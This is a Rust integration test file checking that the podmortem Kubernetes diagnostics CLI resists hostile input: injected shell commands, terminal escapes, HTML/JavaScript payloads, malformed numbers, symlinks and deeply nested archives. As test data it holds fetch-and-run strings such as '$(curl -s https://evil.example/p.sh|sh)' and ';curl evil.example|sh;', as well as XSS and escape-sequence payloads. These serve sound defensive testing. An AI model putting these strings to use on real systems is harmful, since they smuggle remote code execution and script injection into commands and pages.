//! Hostile input never hurts: values from logs and file names cannot inject shell commands into
//! the suggested fixes, terminal escapes and HTML from logs are neutralised, odd numbers and
//! timestamps do not panic, symlinks are not followed and archives are bounded.
//!
//! Every input is generated here, in a temporary directory, and run through the real binary.

use std::path::Path;

use tempfile::TempDir;

#[path = "support/cli.rs"]
mod cli;
use cli::Run;

/// `podmortem ARGS…` run in `dir`, without colour.
fn run(dir: &Path, args: &[&str]) -> Run {
    cli::podmortem(args)
        .current_dir(dir)
        .env("NO_COLOR", "1")
        .run()
}

/// The command part of every suggested step: what follows `$ ` in text output, and the lines
/// of Markdown `sh` blocks.
fn commands(text: &str, markdown: &str) -> Vec<String> {
    let mut out: Vec<String> = text
        .lines()
        .filter_map(|l| l.split_once("$ ").map(|(_, c)| c.to_string()))
        .collect();
    let mut in_sh = false;
    for l in markdown.lines() {
        if l.starts_with("```") {
            in_sh = l.ends_with("sh");
            continue;
        }
        if in_sh {
            out.push(l.to_string());
        }
        if let Some((_, c)) = l.split_once("$ ") {
            out.push(c.to_string());
        }
    }
    out
}

fn all_outputs(dir: &Path, file: &str) -> (String, String, String) {
    let text = run(dir, &["analyze", "-v", file]);
    let md = run(dir, &["analyze", "-o", "markdown", file]);
    let json = run(dir, &["analyze", "-o", "json", file]);
    (text.stdout, md.stdout, json.stdout)
}

fn pod_json(message: &str) -> String {
    serde_json::json!({
        "apiVersion": "v1", "kind": "Pod",
        "metadata": {"name": "api-1", "namespace": "shop"},
        "spec": {"containers": [{"name": "app", "image": "shop/api:1"}]},
        "status": {"containerStatuses": [{
            "name": "app", "restartCount": 0, "ready": false,
            "state": {"waiting": {"reason": "CreateContainerConfigError", "message": message}}
        }]}
    })
    .to_string()
}

#[test]
fn a_secret_name_from_a_log_cannot_inject_a_command() {
    let dir = TempDir::new().unwrap();
    std::fs::write(
        dir.path().join("pod.json"),
        pod_json(r#"secret "tenant-a$(curl -s https://evil.example/p.sh|sh)" not found"#),
    )
    .unwrap();
    let (text, md, json) = all_outputs(dir.path(), "pod.json");
    assert!(text.contains("missing_secret_or_configmap"), "{text}");
    let cmds = commands(&text, &md);
    assert!(
        cmds.iter()
            .any(|c| c.contains("kubectl get secret -n shop <secret>")),
        "an invalid name becomes a placeholder: {cmds:#?}"
    );
    for c in &cmds {
        assert!(!c.contains("$(curl") && !c.contains("evil.example"), "{c}");
    }
    let v: serde_json::Value = serde_json::from_str(&json).unwrap();
    for step in v["diagnoses"][0]["remediation"].as_array().unwrap() {
        let step = step.as_str().unwrap();
        if let Some((_, cmd)) = step.split_once("$ ") {
            assert!(!cmd.contains("$(curl"), "{step}");
        }
    }
    // A valid name is pasted as it is.
    std::fs::write(
        dir.path().join("pod.json"),
        pod_json(r#"secret "tenant-a-db" not found"#),
    )
    .unwrap();
    let (text, _, _) = all_outputs(dir.path(), "pod.json");
    assert!(
        text.contains("$ kubectl get secret -n shop tenant-a-db"),
        "{text}"
    );
}

const OOM_LOG: &str = "loading catalogue\njava.lang.OutOfMemoryError: Java heap space\n";

#[test]
fn a_file_name_cannot_inject_a_command() {
    let dir = TempDir::new().unwrap();
    let name = "x;curl evil.example|sh;.previous.log";
    std::fs::write(dir.path().join(name), OOM_LOG).unwrap();
    let (text, md, _) = all_outputs(dir.path(), name);
    assert!(text.contains("oom_killed"), "{text}");
    let cmds = commands(&text, &md);
    assert!(!cmds.is_empty());
    for c in &cmds {
        assert!(!c.contains(";curl") && !c.contains("|sh"), "{c}");
    }
    assert!(text.contains("kubectl delete pod <pod>"), "{text}");

    // The same name as a tar member.
    let mut tgz = Vec::new();
    {
        let gz = flate2::write::GzEncoder::new(&mut tgz, flate2::Compression::fast());
        let mut tar = tar::Builder::new(gz);
        let mut h = tar::Header::new_gnu();
        h.set_size(OOM_LOG.len() as u64);
        h.set_mode(0o644);
        h.set_cksum();
        tar.append_data(&mut h, name, OOM_LOG.as_bytes()).unwrap();
        tar.into_inner().unwrap().finish().unwrap();
    }
    std::fs::write(dir.path().join("bundle.tgz"), &tgz).unwrap();
    let (text, md, _) = all_outputs(dir.path(), "bundle.tgz");
    assert!(text.contains("oom_killed"), "{text}");
    for c in commands(&text, &md) {
        assert!(!c.contains(";curl") && !c.contains("|sh"), "{c}");
    }
}

#[test]
fn terminal_escapes_html_and_javascript_links_are_neutralised() {
    let dir = TempDir::new().unwrap();
    let log = "loading catalogue\n\
        java.lang.OutOfMemoryError: Java heap space \x1b]0;pwned\x07\x1b]52;c;ZWNobyBwd25lZA==\x07\x1b[2J\r\u{202e} <script>alert(1)</script> <img src=x onerror=alert(1)> [click](javascript:alert(1)) `code`\n";
    // A file name carrying an OSC title change too.
    let name = "api\x1b]0;owned\x07.previous.log";
    std::fs::write(dir.path().join(name), log).unwrap();
    for args in [
        vec!["analyze", name],
        vec!["analyze", "-v", name],
        vec!["analyze", "-v", "--color", "always", name],
    ] {
        let r = run(dir.path(), &args);
        assert!(r.stdout.contains("oom_killed"), "{}", r.stdout);
        // Colour codes of our own start with ESC [ and a digit; nothing else may.
        let foreign_esc = r.stdout.match_indices('\x1b').any(|(i, _)| {
            !r.stdout[i..].starts_with("\x1b[") || r.stdout[i..].starts_with("\x1b[2J")
        });
        assert!(!foreign_esc, "raw escape in {args:?}:\n{:?}", r.stdout);
        assert!(
            !r.stdout.contains('\x07') && !r.stdout.contains('\r'),
            "{:?}",
            r.stdout
        );
        assert!(!r.stdout.contains('\u{202e}'), "{:?}", r.stdout);
        assert!(
            r.stdout.contains("\\x1b]0;pwned\\x07"),
            "escaped, still visible:\n{}",
            r.stdout
        );
    }
    let md = run(dir.path(), &["analyze", "-o", "markdown", name]).stdout;
    assert!(md.contains("oom_killed") || md.contains("OOM"), "{md}");
    assert!(!md.contains("<script>") && !md.contains("<img"), "{md}");
    assert!(md.contains("&lt;script&gt;"), "{md}");
    assert!(!md.to_ascii_lowercase().contains("javascript:"), "{md}");
    assert!(!md.contains('\x1b') && !md.contains('\x07'), "{md:?}");
    // JSON keeps the text exact (escaped by JSON itself).
    let json = run(dir.path(), &["analyze", "-o", "json", name]).stdout;
    let v: serde_json::Value = serde_json::from_str(&json).unwrap();
    assert!(v["diagnoses"][0]["evidence"][0]["text"]
        .as_str()
        .unwrap()
        .contains("<script>"));
}

fn crashloop_pod(restart_count: serde_json::Value, finished_at: &str, exit_code: i64) -> String {
    serde_json::json!({
        "apiVersion": "v1", "kind": "Pod",
        "metadata": {"name": "api-1", "namespace": "shop"},
        "spec": {"containers": [{"name": "app", "image": "shop/api:1"}]},
        "status": {"containerStatuses": [{
            "name": "app", "restartCount": restart_count, "ready": false,
            "state": {"waiting": {"reason": "CrashLoopBackOff",
                "message": "back-off 99999999999h0m0s restarting failed container=app pod=api-1_shop(u)"}},
            "lastState": {"terminated": {"reason": "OOMKilled", "exitCode": exit_code,
                "finishedAt": finished_at}}
        }]}
    })
    .to_string()
}

#[test]
fn odd_timestamps_and_numbers_neither_panic_nor_wrap() {
    let dir = TempDir::new().unwrap();
    std::fs::write(
        dir.path().join("pod.json"),
        crashloop_pod((-1).into(), "203é-01-1T17:11:41Z", 4_294_967_433),
    )
    .unwrap();
    let r = run(dir.path(), &["analyze", "-o", "json", "pod.json"]);
    assert_eq!(r.code, 0, "{}", r.stderr);
    let v: serde_json::Value = serde_json::from_str(&r.stdout).unwrap();
    let d = &v["diagnoses"][0];
    assert_eq!(d["cause"], "oom_killed", "{}", r.stdout);
    assert_eq!(d["backoff"]["restart_count"], serde_json::Value::Null);
    assert_eq!(d["backoff"]["last_finished"], serde_json::Value::Null);
    assert_eq!(d["backoff"]["next_restart"], serde_json::Value::Null);
    assert!(!r.stdout.contains("4294967295"), "{}", r.stdout);
    // The text renderer and the library API too.
    let r = run(dir.path(), &["analyze", "-v", "pod.json"]);
    assert_eq!(r.code, 0, "{}", r.stderr);
    let report = podmortem::Engine::new().analyze(&[podmortem::Input::Bytes {
        name: "pod.json".into(),
        data: crashloop_pod(u64::MAX.into(), "Sat, 10 Jan 11407944 17:11:41 +8é0", -1).into_bytes(),
    }]);
    assert_eq!(report.diagnoses[0].backoff.restart_count, None);
    assert_eq!(report.diagnoses[0].backoff.next_restart, None);
}

#[cfg(unix)]
#[test]
fn symlinks_inside_a_bundle_are_not_followed() {
    let tmp = TempDir::new().unwrap();
    let outside = tmp.path().join("home");
    std::fs::create_dir(&outside).unwrap();
    // What the link points at: a credentials file that also looks like a failing log.
    std::fs::write(
        outside.join("credentials"),
        "[default]\nOUTSIDE-MARKER-7f3a java.lang.OutOfMemoryError: Java heap space\n",
    )
    .unwrap();
    let bundle = tmp.path().join("bundle");
    std::fs::create_dir(&bundle).unwrap();
    std::fs::write(bundle.join("web.previous.log"), OOM_LOG).unwrap();
    std::os::unix::fs::symlink(outside.join("credentials"), bundle.join("app.previous.log"))
        .unwrap();
    for args in [
        vec!["analyze", "-v", "bundle"],
        vec!["analyze", "-o", "json", "bundle"],
    ] {
        let r = run(tmp.path(), &args);
        assert_eq!(r.code, 1, "a skipped link is reported: {}", r.stderr);
        let all = format!("{}{}", r.stdout, r.stderr);
        assert!(!all.contains("OUTSIDE-MARKER-7f3a"), "{all}");
        assert!(
            r.stderr.contains("app.previous.log")
                && r.stderr.contains("symbolic link")
                && r.stderr.contains("not followed"),
            "{}",
            r.stderr
        );
        // The rest of the bundle is still analysed.
        assert!(r.stdout.contains("oom_killed"), "{}", r.stdout);
        assert!(r.stdout.contains("web"), "{}", r.stdout);
    }
}

fn gzip(data: &[u8]) -> Vec<u8> {
    use std::io::Write;
    let mut gz = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::fast());
    gz.write_all(data).unwrap();
    gz.finish().unwrap()
}

fn tar_of(member: &str, data: &[u8]) -> Vec<u8> {
    let mut tar = tar::Builder::new(Vec::new());
    let mut h = tar::Header::new_gnu();
    h.set_size(data.len() as u64);
    h.set_mode(0o644);
    h.set_cksum();
    tar.append_data(&mut h, member, data).unwrap();
    tar.into_inner().unwrap()
}

#[test]
fn nested_archives_stop_at_eight_layers_with_an_error_naming_the_file() {
    let dir = TempDir::new().unwrap();
    // A few layers are fine.
    let mut data = OOM_LOG.as_bytes().to_vec();
    for _ in 0..3 {
        data = gzip(&data);
    }
    std::fs::write(dir.path().join("ok.previous.log.gz"), &data).unwrap();
    let r = run(dir.path(), &["analyze", "ok.previous.log.gz"]);
    assert_eq!(r.code, 0, "{}", r.stderr);
    assert!(r.stdout.contains("oom_killed"), "{}", r.stdout);

    // 5,000 gzip layers used to overflow the stack (exit 134, all output lost); 100 show the
    // limit as well and build quickly.
    for _ in 3..100 {
        data = gzip(&data);
    }
    std::fs::write(dir.path().join("deep.previous.log.gz"), &data).unwrap();
    std::fs::write(dir.path().join("web.previous.log"), OOM_LOG).unwrap();
    let r = run(
        dir.path(),
        &["analyze", "deep.previous.log.gz", "web.previous.log"],
    );
    assert_eq!(r.code, 1, "{}", r.stderr);
    assert!(
        r.stderr
            .contains("deep.previous.log.gz: archives nested more than 8 layers deep"),
        "{}",
        r.stderr
    );
    assert!(
        r.stdout.contains("web"),
        "other inputs are still analysed:\n{}",
        r.stdout
    );

    // Tars and gzips inside each other count alike.
    let mut data = OOM_LOG.as_bytes().to_vec();
    for i in 0..12 {
        data = if i % 2 == 0 {
            tar_of(&format!("layer{i}.previous.log"), &data)
        } else {
            gzip(&data)
        };
    }
    std::fs::write(dir.path().join("mixed.tgz"), &data).unwrap();
    let r = run(dir.path(), &["analyze", "mixed.tgz"]);
    assert_eq!(r.code, 1, "{}", r.stderr);
    assert!(
        r.stderr.contains("mixed.tgz") && r.stderr.contains("nested more than 8"),
        "{}",
        r.stderr
    );
}
